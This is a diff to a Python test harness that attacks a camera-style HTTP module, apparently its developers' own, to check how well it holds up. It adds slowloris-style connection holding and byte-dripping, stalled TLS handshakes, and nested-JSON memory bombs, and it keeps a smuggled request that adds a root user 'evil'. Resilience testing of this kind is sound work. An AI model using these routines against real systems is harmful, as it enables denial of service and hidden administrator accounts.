@@ -1,7 +1,7 @@
 """Strangers and viewers at their worst, each attack a function: for the tests, and by hand against
 a module of one's own.
 
-    python attacks.py NAME URL [--tls-port N] [--count N]
+    python attacks.py NAME URL [--tls-port N] [--count N] [--addresses N]
 
 It prints `attacking` when it has begun and ends when its input ends, or after --count tries; what
 it prints then is JSON: tries, and the answers by status.
@@ -14,9 +14,13 @@ import itertools
 import json
 import os
 import random
+import select
+import selectors
 import socket
+import ssl
 import sys
 import threading
+import time
 from pathlib import Path
 from urllib.parse import urlsplit
 
@@ -25,6 +29,8 @@ sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "tools"))  # whe
 from boards import STREAM, Credentials, receive, status_of  # noqa: E402
 
 TRY_S = 1  # for one connection
+SILENT = 150
+DEAF_S = 2
 SMUGGLED = (
     b"POST /axis-cgi/pwdgrp.cgi?action=add&user=evil&pwd=evilpass&grp=root&sgrp=admin"
     b" HTTP/1.1\r\nHost: a\r\nX-Eat: "
@@ -38,11 +44,13 @@ UPGRADE = (
 class Attack:
     """What attackers share: where the module is, when to end, what they have seen."""
 
-    def __init__(self, host, port, tls_port=None, count=None):
+    def __init__(self, host, port, tls_port=None, count=None, addresses=1):
         self.address = (host, port)
         self.url = "http://%s:%d" % (host, port)
         self.tls_address = (host, tls_port)
         self.limit = count
+        self.addresses = addresses
+        self.sources = itertools.count()
         self.ended = threading.Event()
         self.tries = itertools.count(1)
         self.tried = 0
@@ -70,8 +78,23 @@ class Attack:
         finally:
             self.ended.set()
 
+    def source(self):
+        """The address to come from: one after the other of 127.0.0.100 and those after it."""
+        return "127.0.0.%d" % (100 + next(self.sources) % self.addresses)
+
     def connect(self, tls=False):
-        return socket.create_connection(self.tls_address if tls else self.address, TRY_S)
+        address = self.tls_address if tls else self.address
+        return socket.create_connection(address, TRY_S, (self.source(), 0))
+
+    def until_closed(self, sock, seconds=60):
+        """Wait, and read nothing, until the module has closed."""
+        hung_up = select.poll()
+        hung_up.register(sock, select.POLLRDHUP)
+        deadline = time.monotonic() + seconds
+        while not self.ended.is_set() and time.monotonic() < deadline:
+            if hung_up.poll(100):
+                self.statuses["closed"] += 1
+                return
 
     def note(self, answer):
         self.statuses[str(status_of(answer))] += 1
@@ -125,7 +148,140 @@ def _smuggle(attack, own):
         attack.note(receive(sock, dice.choice((0.002, 0.05)), lambda data: len(data) >= enough))
 
 
-ATTACKS = {job.__name__: job for job in (smuggle,)}
+# -- places and memory ----------------------------------------------------------------------------
+
+
+def silent(attack):
+    """150 connections that say nothing, and come again as soon as they are closed."""
+    attack.start(_hold_many)
+
+
+def _hold_many(attack, _):
+    poll = selectors.DefaultSelector()
+    held = 0
+    try:
+        while not attack.ended.is_set():
+            while held < SILENT and not attack.ended.is_set():
+                sock = socket.socket()
+                sock.bind((attack.source(), 0))
+                sock.setblocking(False)
+                sock.connect_ex(attack.address)
+                poll.register(sock, selectors.EVENT_READ)
+                held += 1
+            for key, _ in poll.select(0.1):
+                poll.unregister(key.fileobj)
+                key.fileobj.close()
+                held -= 1
+                attack.statuses["closed"] += 1
+    finally:
+        for key in list(poll.get_map().values()):
+            key.fileobj.close()
+        poll.close()
+
+
+def hasty(attack):
+    """Six threads that connect, ask and go."""
+    for _ in range(6):
+        attack.start(_ask)
+
+
+def _ask(attack, _):
+    with attack.connect() as sock:
+        sock.sendall(b"GET /nowhere HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n")
+        attack.note(receive(sock, TRY_S, lambda data: b"\r\n\r\n" in data))
+
+
+def deaf(attack):
+    """Three that ask for the page and read nothing of it."""
+    for _ in range(3):
+        attack.start(_ask_for_page)
+
+
+def _ask_for_page(attack, _):
+    with socket.socket() as sock:
+        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2304)
+        sock.settimeout(TRY_S)
+        sock.bind((attack.source(), 0))
+        sock.connect(attack.address)
+        sock.sendall(b"GET /holdfast/page.js HTTP/1.1\r\nHost: a\r\n\r\n")
+        # An end that comes behind what it does not read it does not see.
+        attack.until_closed(sock, DEAF_S)
+
+
+def hello(attack):
+    """Two that begin a handshake at the TLS port with one byte and wait."""
+    for _ in range(2):
+        attack.start(_begin_handshake)
+
+
+def _begin_handshake(attack, _):
+    with attack.connect(tls=True) as sock:
+        sock.sendall(b"\x16")
+        attack.until_closed(sock)
+
+
+def shake(attack):
+    """Two that say all of their hello, a real one, and nothing more."""
+    for _ in range(2):
+        attack.start(_say_hello)
+
+
+def _say_hello(attack, _):
+    context = ssl.create_default_context()
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    outgoing = ssl.MemoryBIO()
+    said = context.wrap_bio(ssl.MemoryBIO(), outgoing)
+    with contextlib.suppress(ssl.SSLWantReadError):
+        said.do_handshake()
+    with attack.connect(tls=True) as sock:
+        sock.sendall(outgoing.read())
+        attack.until_closed(sock)
+
+
+def half(attack):
+    """Ten that send half a request and wait."""
+    for _ in range(10):
+        attack.start(_say_half)
+
+
+def _say_half(attack, _):
+    with attack.connect() as sock:
+        sock.sendall(b"POST /vapix/axhbt HTTP/1.1\r\nHost: a\r\nX: " + b"x" * 1500)
+        attack.until_closed(sock)
+
+
+def drip(attack):
+    """Ten that send a request byte by byte."""
+    for _ in range(10):
+        attack.start(_drip)
+
+
+def _drip(attack, _):
+    with attack.connect() as sock:
+        sock.sendall(b"POST /vapix/axhbt HTTP/1.1\r\nHost: a\r\nX: ")
+        while not attack.ended.wait(0.02):
+            sock.sendall(b"x")
+
+
+BOMBS = (b"[" + b"[]," * 1360 + b"[]]", b"[" + b'{"a":{}},' * 450 + b"1]", b"[" * 4000)
+
+
+def bomb(attack):
+    """Three that send JSON which takes a multiple of its length in memory."""
+    for body in BOMBS:
+        attack.start(_send, lambda body=body: body)
+
+
+def _send(attack, body):
+    head = b"POST /axis-cgi/systemready.cgi HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n"
+    with attack.connect() as sock:
+        sock.sendall(head % len(body) + body)
+        attack.note(receive(sock, TRY_S, lambda data: b"\r\n\r\n" in data))
+
+
+ATTACKS = {
+    job.__name__: job for job in (smuggle, silent, hasty, deaf, hello, shake, half, drip, bomb)
+}
 
 
 def main(arguments=None):
@@ -134,9 +290,12 @@ def main(arguments=None):
     parser.add_argument("url")
     parser.add_argument("--tls-port", type=int)
     parser.add_argument("--count", type=int)
+    parser.add_argument("--addresses", type=int, default=1, help="so many of 127.0.0.0/8")
     options = parser.parse_args(arguments)
     place = urlsplit(options.url)
-    attack = Attack(place.hostname, place.port or 80, options.tls_port, options.count)
+    attack = Attack(
+        place.hostname, place.port or 80, options.tls_port, options.count, options.addresses
+    )
     ATTACKS[options.name](attack)
     print("attacking", flush=True)
 
